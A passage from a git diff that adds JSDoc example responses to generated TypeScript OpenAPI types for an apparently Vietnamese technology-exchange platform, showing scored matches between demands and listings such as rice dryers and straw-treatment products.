                     "application/json": components["schemas"]["MatchList"];
                 };
             };
@@ -11582,6 +14137,13 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [],
+                     *       "nextCursor": null,
+                     *       "computedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["MatchList"];
                 };
             };
@@ -11733,6 +14295,13 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "demandId": "9791e300-359a-4d4a-8e6e-80990bebc245",
+                 *       "listingId": "7d12344f-d663-4fc8-b930-bdecb5f0861f",
+                 *       "note": "HTX có thể dùng lò sấy năng lượng mặt trời cho vụ hè"
+                 *     }
+                 */
                 "application/json": components["schemas"]["ProposeMatchRequest"];
             };
         };
@@ -11749,6 +14318,192 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "5bbec56e-f1b9-410f-8a55-0a116e2e4ae6",
+                     *       "demandId": "9791e300-359a-4d4a-8e6e-80990bebc245",
+                     *       "listingId": "7d12344f-d663-4fc8-b930-bdecb5f0861f",
+                     *       "status": "suggested",
+                     *       "origin": "broker",
+                     *       "score": 0.8219,
+                     *       "explanation": {
+                     *         "text": {
+                     *           "weight": 0.75,
+                     *           "value": 0.721,
+                     *           "matchedTerms": [
+                     *             {
+                     *               "term": "lua",
+                     *               "weight": 0.0758,
+                     *               "field": "both",
+                     *               "origin": "query"
+                     *             },
+                     *             {
+                     *               "term": "10",
+                     *               "weight": 0.0693,
+                     *               "field": "title",
+                     *               "origin": "query"
+                     *             }
+                     *           ],
+                     *           "termCount": 69,
+                     *           "coverage": 0.2429,
+                     *           "corrections": [
+                     *             {
+                     *               "from": "xuong",
+                     *               "to": "luong"
+                     *             }
+                     *           ],
+                     *           "thesaurus": [
+                     *             {
+                     *               "entryId": "50cdc658-faf8-42d3-8a2f-db7af507f261",
+                     *               "matched": "may say",
+                     *               "added": [
+                     *                 {
+                     *                   "phrase": "lo say",
+                     *                   "weight": 1
+                     *                 },
+                     *                 {
+                     *                   "phrase": "thiet bi say",
+                     *                   "weight": 1
+                     *                 }
+                     *               ]
+                     *             },
+                     *             {
+                     *               "entryId": "883d17ea-3adb-4d35-a5e1-60e540910a98",
+                     *               "matched": "rice",
+                     *               "added": [
+                     *                 {
+                     *                   "phrase": "lua gao",
+                     *                   "weight": 1
+                     *                 },
+                     *                 {
+                     *                   "phrase": "paddy rice",
+                     *                   "weight": 1
+                     *                 }
+                     *               ]
+                     *             }
+                     *           ]
+                     *         },
+                     *         "taxonomy": {
+                     *           "weight": 0.08,
+                     *           "value": 0.75,
+                     *           "sharedSectors": [
+                     *             "A"
+                     *           ],
+                     *           "sharedFields": [
+                     *             "4"
+                     *           ]
+                     *         },
+                     *         "trl": {
+                     *           "weight": 0.08,
+                     *           "value": 1,
+                     *           "listingTrl": 7,
+                     *           "minTrl": 6,
+                     *           "gap": 0
+                     *         },
+                     *         "location": {
+                     *           "weight": 0.04,
+                     *           "value": 1,
+                     *           "distanceClass": "same_province",
+                     *           "demandProvince": "37",
+                     *           "listingProvinces": [
+                     *             "37"
+                     *           ]
+                     *         },
+                     *         "price": {
+                     *           "weight": 0.03,
+                     *           "value": 1,
+                     *           "fit": "within_budget",
+                     *           "priceType": "amount",
+                     *           "priceVnd": 250000000,
+                     *           "budgetMinVnd": 500000000,
+                     *           "budgetMaxVnd": 2000000000
+                     *         },
+                     *         "multiplier": 1.14,
+                     *         "freshness": {
+                     *           "weight": 0.02,
+                     *           "value": 1,
+                     *           "ageDays": 0
+                     *         }
+                     *       },
+                     *       "proposedBy": {
+                     *         "id": "be926d6a-e7c6-4c8e-a22f-9cc94149761c",
+                     *         "name": "Điểm kết nối cung cầu Nam Định"
+                     *       },
+                     *       "proposalNote": "HTX có thể dùng lò sấy năng lượng mặt trời cho vụ hè",
+                     *       "dismissReason": null,
+                     *       "dismissNote": null,
+                     *       "decidedAt": null,
+                     *       "computedAt": "2026-03-02T03:00:00.000Z",
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 2,
+                     *       "listing": {
+                     *         "id": "7d12344f-d663-4fc8-b930-bdecb5f0861f",
+                     *         "status": "published",
+                     *         "kind": "technology",
+                     *         "titleVi": "Máy sấy lúa tầng sôi công suất 10 tấn/mẻ",
+                     *         "titleEn": "Organic rice production process",
+                     *         "trl": 7,
+                     *         "priceType": "amount",
+                     *         "priceVnd": 250000000,
+                     *         "sectors": [
+                     *           "A"
+                     *         ],
+                     *         "fields": [
+                     *           "4"
+                     *         ],
+                     *         "provinceCodes": [
+                     *           "37"
+                     *         ],
+                     *         "currentProvinceCodes": [
+                     *           "37"
+                     *         ],
+                     *         "owner": {
+                     *           "id": "4e8b236b-3884-4bdc-a50f-580c813933e0",
+                     *           "name": "Công ty thử nghiệm 9",
+                     *           "kind": "research_institute"
+                     *         },
+                     *         "publishedAt": "2026-03-02T03:00:00.000Z",
+                     *         "validUntil": "2026-12-31",
+                     *         "provenance": {
+                     *           "source": "tech-exchange",
+                     *           "externalId": null,
+                     *           "globalId": "tech-exchange:listing:7d12344f-d663-4fc8-b930-bdecb5f0861f"
+                     *         },
+                     *         "redacted": []
+                     *       },
+                     *       "demand": {
+                     *         "id": "9791e300-359a-4d4a-8e6e-80990bebc245",
+                     *         "status": "open",
+                     *         "titleVi": "Cần máy sấy lúa công suất 10 tấn/mẻ",
+                     *         "titleEn": "Rice dryer wanted, 10 tonnes per batch",
+                     *         "sectors": [
+                     *           "A",
+                     *           "C"
+                     *         ],
+                     *         "fields": [
+                     *           "4"
+                     *         ],
+                     *         "minTrl": 6,
+                     *         "budgetMinVnd": 500000000,
+                     *         "budgetMaxVnd": 2000000000,
+                     *         "deadline": "2026-06-30",
+                     *         "provinceCode": "36",
+                     *         "currentProvinceCode": "37",
+                     *         "owner": {
+                     *           "id": "47d99918-b348-4a34-8d84-5563becf19d9",
+                     *           "name": "HTX Nông nghiệp Giao Thủy",
+                     *           "kind": "enterprise"
+                     *         },
+                     *         "openedAt": "2026-03-02T03:00:00.000Z",
+                     *         "provenance": {
+                     *           "source": "tech-exchange",
+                     *           "externalId": null,
+                     *           "globalId": "tech-exchange:demand:9791e300-359a-4d4a-8e6e-80990bebc245"
+                     *         }
+                     *       }
+                     *     }
+                     */
                     "application/json": components["schemas"]["Match"];
                 };
             };
@@ -11765,6 +14520,196 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "c6f1533b-208b-4e01-97d8-ca59f81db400",
+                     *       "demandId": "a97aca87-ff66-4a19-a22c-2f4bd2037933",
+                     *       "listingId": "c7c84c37-48fc-4626-9e0e-060a2df6c3ad",
+                     *       "status": "suggested",
+                     *       "origin": "broker",
+                     *       "score": 1,
+                     *       "explanation": {
+                     *         "text": {
+                     *           "weight": 0.75,
+                     *           "value": 0.883,
+                     *           "matchedTerms": [
+                     *             {
+                     *               "term": "lua",
+                     *               "weight": 0.0742,
+                     *               "field": "both",
+                     *               "origin": "query"
+                     *             },
+                     *             {
+                     *               "term": "che",
+                     *               "weight": 0.0593,
+                     *               "field": "title",
+                     *               "origin": "query"
+                     *             }
+                     *           ],
+                     *           "termCount": 80,
+                     *           "coverage": 0.0671,
+                     *           "corrections": [
+                     *             {
+                     *               "from": "xuong",
+                     *               "to": "ruong"
+                     *             },
+                     *             {
+                     *               "from": "nang",
+                     *               "to": "bang"
+                     *             }
+                     *           ],
+                     *           "thesaurus": [
+                     *             {
+                     *               "entryId": "e165b892-5a8c-47e9-97ca-102a0ae7f873",
+                     *               "matched": "rom ra",
+                     *               "added": [
+                     *                 {
+                     *                   "phrase": "rice straw",
+                     *                   "weight": 1
+                     *                 },
+                     *                 {
+                     *                   "phrase": "rom lua",
+                     *                   "weight": 1
+                     *                 }
+                     *               ]
+                     *             },
+                     *             {
+                     *               "entryId": "883d17ea-3adb-4d35-a5e1-60e540910a98",
+                     *               "matched": "rice",
+                     *               "added": [
+                     *                 {
+                     *                   "phrase": "lua gao",
+                     *                   "weight": 1
+                     *                 },
+                     *                 {
+                     *                   "phrase": "paddy rice",
+                     *                   "weight": 1
+                     *                 }
+                     *               ]
+                     *             }
+                     *           ]
+                     *         },
+                     *         "taxonomy": {
+                     *           "weight": 0.08,
+                     *           "value": 0.75,
+                     *           "sharedSectors": [
+                     *             "A"
+                     *           ],
+                     *           "sharedFields": [
+                     *             "4"
+                     *           ]
+                     *         },
+                     *         "trl": {
+                     *           "weight": 0.08,
+                     *           "value": 1,
+                     *           "listingTrl": 7,
+                     *           "minTrl": 6,
+                     *           "gap": 0
+                     *         },
+                     *         "location": {
+                     *           "weight": 0.04,
+                     *           "value": 1,
+                     *           "distanceClass": "same_province",
+                     *           "demandProvince": "37",
+                     *           "listingProvinces": [
+                     *             "37"
+                     *           ]
+                     *         },
+                     *         "price": {
+                     *           "weight": 0.03,
+                     *           "value": 1,
+                     *           "fit": "within_budget",
+                     *           "priceType": "amount",
+                     *           "priceVnd": 250000000,
+                     *           "budgetMinVnd": 500000000,
+                     *           "budgetMaxVnd": 2000000000
+                     *         },
+                     *         "multiplier": 1.14,
+                     *         "freshness": {
+                     *           "weight": 0.02,
+                     *           "value": 1,
+                     *           "ageDays": 0
+                     *         }
+                     *       },
+                     *       "proposedBy": {
+                     *         "id": "cf171955-2014-471b-9d1b-9bd5e6d565ca",
+                     *         "name": "Sàn giao dịch công nghệ"
+                     *       },
+                     *       "proposalNote": "Chế phẩm đúng nhu cầu xử lý rơm rạ",
+                     *       "dismissReason": null,
+                     *       "dismissNote": null,
+                     *       "decidedAt": null,
+                     *       "computedAt": "2026-03-02T03:00:00.000Z",
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 1,
+                     *       "listing": {
+                     *         "id": "c7c84c37-48fc-4626-9e0e-060a2df6c3ad",
+                     *         "status": "published",
+                     *         "kind": "technology",
+                     *         "titleVi": "Chế phẩm vi sinh xử lý rơm rạ tại ruộng",
+                     *         "titleEn": "Organic rice production process",
+                     *         "trl": 7,
+                     *         "priceType": "amount",
+                     *         "priceVnd": 250000000,
+                     *         "sectors": [
+                     *           "A"
+                     *         ],
+                     *         "fields": [
+                     *           "4"
+                     *         ],
+                     *         "provinceCodes": [
+                     *           "36"
+                     *         ],
+                     *         "currentProvinceCodes": [
+                     *           "37"
+                     *         ],
+                     *         "owner": {
+                     *           "id": "621359ce-af08-4849-9744-389f55f8033d",
+                     *           "name": "Công ty TNHH Phân bón Xanh",
+                     *           "kind": "enterprise"
+                     *         },
+                     *         "publishedAt": "2026-03-02T03:00:00.000Z",
+                     *         "validUntil": "2026-12-31",
+                     *         "provenance": {
+                     *           "source": "tech-exchange",
+                     *           "externalId": null,
+                     *           "globalId": "tech-exchange:listing:c7c84c37-48fc-4626-9e0e-060a2df6c3ad"
+                     *         },
+                     *         "redacted": []
+                     *       },
+                     *       "demand": {
+                     *         "id": "a97aca87-ff66-4a19-a22c-2f4bd2037933",
+                     *         "status": "open",
+                     *         "titleVi": "Cần chế phẩm xử lý rơm rạ vi sinh",
+                     *         "titleEn": "Rice dryer wanted, 10 tonnes per batch",
+                     *         "sectors": [
+                     *           "A",
+                     *           "C"
+                     *         ],
+                     *         "fields": [
+                     *           "4"
+                     *         ],
+                     *         "minTrl": 6,
+                     *         "budgetMinVnd": 500000000,
+                     *         "budgetMaxVnd": 2000000000,
+                     *         "deadline": "2026-06-30",
+                     *         "provinceCode": "36",
+                     *         "currentProvinceCode": "37",
+                     *         "owner": {
+                     *           "id": "9e508570-815a-469b-9002-8d0354fe4d91",
+                     *           "name": "Công ty Cổ phần Cơ khí Đông Anh",
+                     *           "kind": "enterprise"
+                     *         },
+                     *         "openedAt": "2026-03-02T03:00:00.000Z",
+                     *         "provenance": {
+                     *           "source": "tech-exchange",
+                     *           "externalId": null,
+                     *           "globalId": "tech-exchange:demand:a97aca87-ff66-4a19-a22c-2f4bd2037933"
+                     *         }
+                     *       }
+                     *     }
+                     */
                     "application/json": components["schemas"]["Match"];
                 };
             };
@@ -11930,6 +14875,194 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "542f4987-d2f1-4809-ae9a-990973c02005",
+                     *       "demandId": "0fe7397f-8029-4557-9cb7-4404631ceb20",
+                     *       "listingId": "4c42ccfc-9246-4e6a-bab8-5bbba29474c0",
+                     *       "status": "suggested",
+                     *       "origin": "computed",
+                     *       "score": 0.8569,
+                     *       "explanation": {
+                     *         "text": {
+                     *           "weight": 0.75,
+                     *           "value": 0.7473,
+                     *           "matchedTerms": [
+                     *             {
+                     *               "term": "thu hoach",
+                     *               "weight": 0.0936,
+                     *               "field": "both",
+                     *               "origin": "query"
+                     *             },
+                     *             {
+                     *               "term": "lua",
+                     *               "weight": 0.091,
+                     *               "field": "both",
+                     *               "origin": "query"
+                     *             }
+                     *           ],
+                     *           "termCount": 69,
+                     *           "coverage": 0.1006,
+                     *           "corrections": [
+                     *             {
+                     *               "from": "nang",
+                     *               "to": "tang"
+                     *             }
+                     *           ],
+                     *           "thesaurus": [
+                     *             {
+                     *               "entryId": "50cdc658-faf8-42d3-8a2f-db7af507f261",
+                     *               "matched": "may say",
+                     *               "added": [
+                     *                 {
+                     *                   "phrase": "lo say",
+                     *                   "weight": 1
+                     *                 },
+                     *                 {
+                     *                   "phrase": "thiet bi say",
+                     *                   "weight": 1
+                     *                 }
+                     *               ]
+                     *             },
+                     *             {
+                     *               "entryId": "883d17ea-3adb-4d35-a5e1-60e540910a98",
+                     *               "matched": "rice",
+                     *               "added": [
+                     *                 {
+                     *                   "phrase": "lua gao",
+                     *                   "weight": 1
+                     *                 },
+                     *                 {
+                     *                   "phrase": "paddy rice",
+                     *                   "weight": 1
+                     *                 }
+                     *               ]
+                     *             }
+                     *           ]
+                     *         },
+                     *         "taxonomy": {
+                     *           "weight": 0.08,
+                     *           "value": 1,
+                     *           "sharedSectors": [
+                     *             "A",
+                     *             "C"
+                     *           ],
+                     *           "sharedFields": [
+                     *             "4"
+                     *           ]
+                     *         },
+                     *         "trl": {
+                     *           "weight": 0.08,
+                     *           "value": 1,
+                     *           "listingTrl": 8,
+                     *           "minTrl": 6,
+                     *           "gap": 0
+                     *         },
+                     *         "location": {
+                     *           "weight": 0.04,
+                     *           "value": 1,
+                     *           "distanceClass": "same_province",
+                     *           "demandProvince": "37",
+                     *           "listingProvinces": [
+                     *             "37"
+                     *           ]
+                     *         },
+                     *         "price": {
+                     *           "weight": 0.03,
+                     *           "value": 0.5,
+                     *           "fit": "price_not_stated",
+                     *           "priceType": "on_request",
+                     *           "priceVnd": null,
+                     *           "budgetMinVnd": 500000000,
+                     *           "budgetMaxVnd": 2000000000
+                     *         },
+                     *         "multiplier": 1.1467,
+                     *         "freshness": {
+                     *           "weight": 0.02,
+                     *           "value": 1,
+                     *           "ageDays": 0
+                     *         }
+                     *       },
+                     *       "proposedBy": null,
+                     *       "proposalNote": null,
+                     *       "dismissReason": null,
+                     *       "dismissNote": null,
+                     *       "decidedAt": null,
+                     *       "computedAt": "2026-03-02T03:00:00.000Z",
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 1,
+                     *       "listing": {
+                     *         "id": "4c42ccfc-9246-4e6a-bab8-5bbba29474c0",
+                     *         "status": "published",
+                     *         "kind": "technology",
+                     *         "titleVi": "Máy sấy lúa tầng sôi ẩn danh",
+                     *         "titleEn": "Organic rice production process",
+                     *         "trl": 8,
+                     *         "priceType": "on_request",
+                     *         "priceVnd": null,
+                     *         "sectors": [
+                     *           "A",
+                     *           "C"
+                     *         ],
+                     *         "fields": [
+                     *           "4"
+                     *         ],
+                     *         "provinceCodes": [
+                     *           "37"
+                     *         ],
+                     *         "currentProvinceCodes": [
+                     *           "37"
+                     *         ],
+                     *         "owner": {
+                     *           "id": null,
+                     *           "name": null,
+                     *           "kind": "university"
+                     *         },
+                     *         "publishedAt": "2026-03-02T03:00:00.000Z",
+                     *         "validUntil": null,
+                     *         "provenance": {
+                     *           "source": "tech-exchange",
+                     *           "externalId": null,
+                     *           "globalId": "tech-exchange:listing:4c42ccfc-9246-4e6a-bab8-5bbba29474c0"
+                     *         },
+                     *         "redacted": [
+                     *           "owner",
+                     *           "priceVnd"
+                     *         ]
+                     *       },
+                     *       "demand": {
+                     *         "id": "0fe7397f-8029-4557-9cb7-4404631ceb20",
+                     *         "status": "open",
+                     *         "titleVi": "Cần máy sấy lúa công suất 10 tấn/mẻ",
+                     *         "titleEn": "Rice dryer wanted, 10 tonnes per batch",
+                     *         "sectors": [
+                     *           "A",
+                     *           "C"
+                     *         ],
+                     *         "fields": [
+                     *           "4"
+                     *         ],
+                     *         "minTrl": 6,
+                     *         "budgetMinVnd": 500000000,
+                     *         "budgetMaxVnd": 2000000000,
+                     *         "deadline": "2026-06-30",
+                     *         "provinceCode": "36",
+                     *         "currentProvinceCode": "37",
+                     *         "owner": {
+                     *           "id": "89b5908a-4b02-446d-a34f-33386034bbfe",
+                     *           "name": "HTX Nông nghiệp Giao Thủy",
+                     *           "kind": "enterprise"
+                     *         },
+                     *         "openedAt": "2026-03-02T03:00:00.000Z",
+                     *         "provenance": {
+                     *           "source": "tech-exchange",
+                     *           "externalId": null,
+                     *           "globalId": "tech-exchange:demand:0fe7397f-8029-4557-9cb7-4404631ceb20"
+                     *         }
+                     *       }
+                     *     }
+                     */
                     "application/json": components["schemas"]["Match"];
                 };
             };
@@ -12056,6 +15189,193 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "f8a1c448-be4f-441c-9481-83ca2066da3f",
+                     *       "demandId": "65e89b0d-323b-44d2-a35a-ef9ad9211761",
+                     *       "listingId": "a899abf7-ccfd-418d-aba4-d5020561adca",
+                     *       "status": "shortlisted",
+                     *       "origin": "computed",
+                     *       "score": 0.1445,
+                     *       "explanation": {
+                     *         "text": {
+                     *           "weight": 0.75,
+                     *           "value": 0.1268,
+                     *           "matchedTerms": [
+                     *             {
+                     *               "term": "say",
+                     *               "weight": 0.227,
+                     *               "field": "both",
+                     *               "origin": "query"
+                     *             },
+                     *             {
+                     *               "term": "say lua",
+                     *               "weight": 0.227,
+                     *               "field": "both",
+                     *               "origin": "query"
+                     *             }
+                     *           ],
+                     *           "termCount": 75,
+                     *           "coverage": 0.0337,
+                     *           "corrections": [
+                     *             {
+                     *               "from": "xuong",
+                     *               "to": "ruong"
+                     *             },
+                     *             {
+                     *               "from": "nang",
+                     *               "to": "nong"
+                     *             }
+                     *           ],
+                     *           "thesaurus": [
+                     *             {
+                     *               "entryId": "50cdc658-faf8-42d3-8a2f-db7af507f261",
+                     *               "matched": "may say",
+                     *               "added": [
+                     *                 {
+                     *                   "phrase": "lo say",
+                     *                   "weight": 1
+                     *                 },
+                     *                 {
+                     *                   "phrase": "thiet bi say",
+                     *                   "weight": 1
+                     *                 }
+                     *               ]
+                     *             },
+                     *             {
+                     *               "entryId": "883d17ea-3adb-4d35-a5e1-60e540910a98",
+                     *               "matched": "rice",
+                     *               "added": [
+                     *                 {
+                     *                   "phrase": "lua gao",
+                     *                   "weight": 1
+                     *                 },
+                     *                 {
+                     *                   "phrase": "paddy rice",
+                     *                   "weight": 1
+                     *                 }
+                     *               ]
+                     *             }
+                     *           ]
+                     *         },
+                     *         "taxonomy": {
+                     *           "weight": 0.08,
+                     *           "value": 0.75,
+                     *           "sharedSectors": [
+                     *             "A"
+                     *           ],
+                     *           "sharedFields": [
+                     *             "4"
+                     *           ]
+                     *         },
+                     *         "trl": {
+                     *           "weight": 0.08,
+                     *           "value": 1,
+                     *           "listingTrl": 7,
+                     *           "minTrl": 6,
+                     *           "gap": 0
+                     *         },
+                     *         "location": {
+                     *           "weight": 0.04,
+                     *           "value": 1,
+                     *           "distanceClass": "same_province",
+                     *           "demandProvince": "37",
+                     *           "listingProvinces": [
+                     *             "37"
+                     *           ]
+                     *         },
+                     *         "price": {
+                     *           "weight": 0.03,
+                     *           "value": 1,
+                     *           "fit": "within_budget",
+                     *           "priceType": "amount",
+                     *           "priceVnd": 250000000,
+                     *           "budgetMinVnd": 500000000,
+                     *           "budgetMaxVnd": 2000000000
+                     *         },
+                     *         "multiplier": 1.14,
+                     *         "freshness": {
+                     *           "weight": 0.02,
+                     *           "value": 1,
+                     *           "ageDays": 0
+                     *         }
+                     *       },
+                     *       "proposedBy": null,
+                     *       "proposalNote": null,
+                     *       "dismissReason": null,
+                     *       "dismissNote": null,
+                     *       "decidedAt": "2026-03-02T03:00:00.000Z",
+                     *       "computedAt": "2026-03-02T03:00:00.000Z",
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 2,
+                     *       "listing": {
+                     *         "id": "a899abf7-ccfd-418d-aba4-d5020561adca",
+                     *         "status": "published",
+                     *         "kind": "technology",
+                     *         "titleVi": "Máy sấy lúa tầng sôi di động",
+                     *         "titleEn": "Organic rice production process",
+                     *         "trl": 7,
+                     *         "priceType": "amount",
+                     *         "priceVnd": 250000000,
+                     *         "sectors": [
+                     *           "A"
+                     *         ],
+                     *         "fields": [
+                     *           "4"
+                     *         ],
+                     *         "provinceCodes": [
+                     *           "36"
+                     *         ],
+                     *         "currentProvinceCodes": [
+                     *           "37"
+                     *         ],
+                     *         "owner": {
+                     *           "id": "09e0318b-f9a7-4c49-8fbd-600467ba4b19",
+                     *           "name": "Viện Cơ điện Nông nghiệp",
+                     *           "kind": "research_institute"
+                     *         },
+                     *         "publishedAt": "2026-03-02T03:00:00.000Z",
+                     *         "validUntil": "2026-12-31",
+                     *         "provenance": {
+                     *           "source": "tech-exchange",
+                     *           "externalId": null,
+                     *           "globalId": "tech-exchange:listing:a899abf7-ccfd-418d-aba4-d5020561adca"
+                     *         },
+                     *         "redacted": []
+                     *       },
+                     *       "demand": {
+                     *         "id": "65e89b0d-323b-44d2-a35a-ef9ad9211761",
+                     *         "status": "open",
+                     *         "titleVi": "Cần máy sấy lúa công suất 10 tấn/mẻ",
+                     *         "titleEn": "Rice dryer wanted, 10 tonnes per batch",
+                     *         "sectors": [
+                     *           "A",
+                     *           "C"
+                     *         ],
+                     *         "fields": [
+                     *           "4"
+                     *         ],
+                     *         "minTrl": 6,
+                     *         "budgetMinVnd": 500000000,
+                     *         "budgetMaxVnd": 2000000000,
+                     *         "deadline": "2026-06-30",
+                     *         "provinceCode": "36",
+                     *         "currentProvinceCode": "37",
+                     *         "owner": {
+                     *           "id": "9975c6ed-3f90-4ee3-a35f-6535267b51ad",
+                     *           "name": "Công ty TNHH Nông sản thử nghiệm 3",
+                     *           "kind": "enterprise"
+                     *         },
+                     *         "openedAt": "2026-03-02T03:00:00.000Z",
+                     *         "provenance": {
+                     *           "source": "tech-exchange",
+                     *           "externalId": null,
+                     *           "globalId": "tech-exchange:demand:65e89b0d-323b-44d2-a35a-ef9ad9211761"
+                     *         }
+                     *       }
+                     *     }
+                     */
                     "application/json": components["schemas"]["Match"];
                 };
             };
@@ -12225,6 +15545,12 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "reason": "too_expensive",
+                 *       "note": "Vượt ngân sách của HTX"
+                 *     }
+                 */
                 "application/json": components["schemas"]["DismissMatchRequest"];
             };
         };
@@ -12241,6 +15567,189 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "d9329f77-dba1-4a0e-8901-cf5a3c3f90ac",
+                     *       "demandId": "569b329a-e40c-42df-ab0d-27816abd22ee",
+                     *       "listingId": "f3125659-cca4-4fd5-9881-44b5c30876f4",
+                     *       "status": "dismissed",
+                     *       "origin": "computed",
+                     *       "score": 0.9087,
+                     *       "explanation": {
+                     *         "text": {
+                     *           "weight": 0.75,
+                     *           "value": 0.7971,
+                     *           "matchedTerms": [
+                     *             {
+                     *               "term": "lua",
+                     *               "weight": 0.0681,
+                     *               "field": "both",
+                     *               "origin": "query"
+                     *             },
+                     *             {
+                     *               "term": "10",
+                     *               "weight": 0.0623,
+                     *               "field": "title",
+                     *               "origin": "query"
+                     *             }
+                     *           ],
+                     *           "termCount": 69,
+                     *           "coverage": 0.1581,
+                     *           "corrections": [
+                     *             {
+                     *               "from": "nang",
+                     *               "to": "tang"
+                     *             }
+                     *           ],
+                     *           "thesaurus": [
+                     *             {
+                     *               "entryId": "50cdc658-faf8-42d3-8a2f-db7af507f261",
+                     *               "matched": "may say",
+                     *               "added": [
+                     *                 {
+                     *                   "phrase": "lo say",
+                     *                   "weight": 1
+                     *                 },
+                     *                 {
+                     *                   "phrase": "thiet bi say",
+                     *                   "weight": 1
+                     *                 }
+                     *               ]
+                     *             },
+                     *             {
+                     *               "entryId": "883d17ea-3adb-4d35-a5e1-60e540910a98",
+                     *               "matched": "rice",
+                     *               "added": [
+                     *                 {
+                     *                   "phrase": "lua gao",
+                     *                   "weight": 1
+                     *                 },
+                     *                 {
+                     *                   "phrase": "paddy rice",
+                     *                   "weight": 1
+                     *                 }
+                     *               ]
+                     *             }
+                     *           ]
+                     *         },
+                     *         "taxonomy": {
+                     *           "weight": 0.08,
+                     *           "value": 0.75,
+                     *           "sharedSectors": [
+                     *             "A"
+                     *           ],
+                     *           "sharedFields": [
+                     *             "4"
+                     *           ]
+                     *         },
+                     *         "trl": {
+                     *           "weight": 0.08,
+                     *           "value": 1,
+                     *           "listingTrl": 7,
+                     *           "minTrl": 6,
+                     *           "gap": 0
+                     *         },
+                     *         "location": {
+                     *           "weight": 0.04,
+                     *           "value": 1,
+                     *           "distanceClass": "same_province",
+                     *           "demandProvince": "37",
+                     *           "listingProvinces": [
+                     *             "37"
+                     *           ]
+                     *         },
+                     *         "price": {
+                     *           "weight": 0.03,
+                     *           "value": 1,
+                     *           "fit": "within_budget",
+                     *           "priceType": "amount",
+                     *           "priceVnd": 250000000,
+                     *           "budgetMinVnd": 500000000,
+                     *           "budgetMaxVnd": 2000000000
+                     *         },
+                     *         "multiplier": 1.14,
+                     *         "freshness": {
+                     *           "weight": 0.02,
+                     *           "value": 1,
+                     *           "ageDays": 0
+                     *         }
+                     *       },
+                     *       "proposedBy": null,
+                     *       "proposalNote": null,
+                     *       "dismissReason": "too_expensive",
+                     *       "dismissNote": "Vượt ngân sách của HTX",
+                     *       "decidedAt": "2026-03-02T03:00:00.000Z",
+                     *       "computedAt": "2026-03-02T03:00:00.000Z",
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 3,
+                     *       "listing": {
+                     *         "id": "f3125659-cca4-4fd5-9881-44b5c30876f4",
+                     *         "status": "published",
+                     *         "kind": "technology",
+                     *         "titleVi": "Máy sấy lúa tầng sôi công suất 10 tấn/mẻ",
+                     *         "titleEn": "Organic rice production process",
+                     *         "trl": 7,
+                     *         "priceType": "amount",
+                     *         "priceVnd": 250000000,
+                     *         "sectors": [
+                     *           "A"
+                     *         ],
+                     *         "fields": [
+                     *           "4"
+                     *         ],
+                     *         "provinceCodes": [
+                     *           "37"
+                     *         ],
+                     *         "currentProvinceCodes": [
+                     *           "37"
+                     *         ],
+                     *         "owner": {
+                     *           "id": "795af580-e7f0-432d-a735-ad26d9449095",
+                     *           "name": "Công ty thử nghiệm 2",
+                     *           "kind": "research_institute"
+                     *         },
+                     *         "publishedAt": "2026-03-02T03:00:00.000Z",
+                     *         "validUntil": "2026-12-31",
+                     *         "provenance": {
+                     *           "source": "tech-exchange",
+                     *           "externalId": null,
+                     *           "globalId": "tech-exchange:listing:f3125659-cca4-4fd5-9881-44b5c30876f4"
+                     *         },
+                     *         "redacted": []
+                     *       },
+                     *       "demand": {
+                     *         "id": "569b329a-e40c-42df-ab0d-27816abd22ee",
+                     *         "status": "open",
+                     *         "titleVi": "Cần máy sấy lúa công suất 10 tấn/mẻ",
+                     *         "titleEn": "Rice dryer wanted, 10 tonnes per batch",
+                     *         "sectors": [
+                     *           "A",
+                     *           "C"
+                     *         ],
+                     *         "fields": [
+                     *           "4"
+                     *         ],
+                     *         "minTrl": 6,
+                     *         "budgetMinVnd": 500000000,
+                     *         "budgetMaxVnd": 2000000000,
+                     *         "deadline": "2026-06-30",
+                     *         "provinceCode": "36",
+                     *         "currentProvinceCode": "37",
+                     *         "owner": {
+                     *           "id": "47764fa6-557f-4590-b342-1f82a77ce035",
+                     *           "name": "HTX Nông nghiệp Giao Thủy",
+                     *           "kind": "enterprise"
+                     *         },
+                     *         "openedAt": "2026-03-02T03:00:00.000Z",
+                     *         "provenance": {
+                     *           "source": "tech-exchange",
+                     *           "externalId": null,
+                     *           "globalId": "tech-exchange:demand:569b329a-e40c-42df-ab0d-27816abd22ee"
+                     *         }
+                     *       }
+                     *     }
+                     */
                     "application/json": components["schemas"]["Match"];
                 };
             };
@@ -12416,6 +15925,145 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "states": [
+                     *         {
+                     *           "name": "interest_expressed",
+                     *           "terminal": false,
+                     *           "description": "A seeker expressed interest in a listing (or a provider proposed its listing for a demand); the other side has not answered"
+                     *         },
+                     *         {
+                     *           "name": "accepted",
+                     *           "terminal": false,
+                     *           "description": "The other side accepted: identity, contacts and the price on request are disclosed to the seeker"
+                     *         }
+                     *       ],
+                     *       "roles": [
+                     *         "provider",
+                     *         "seeker"
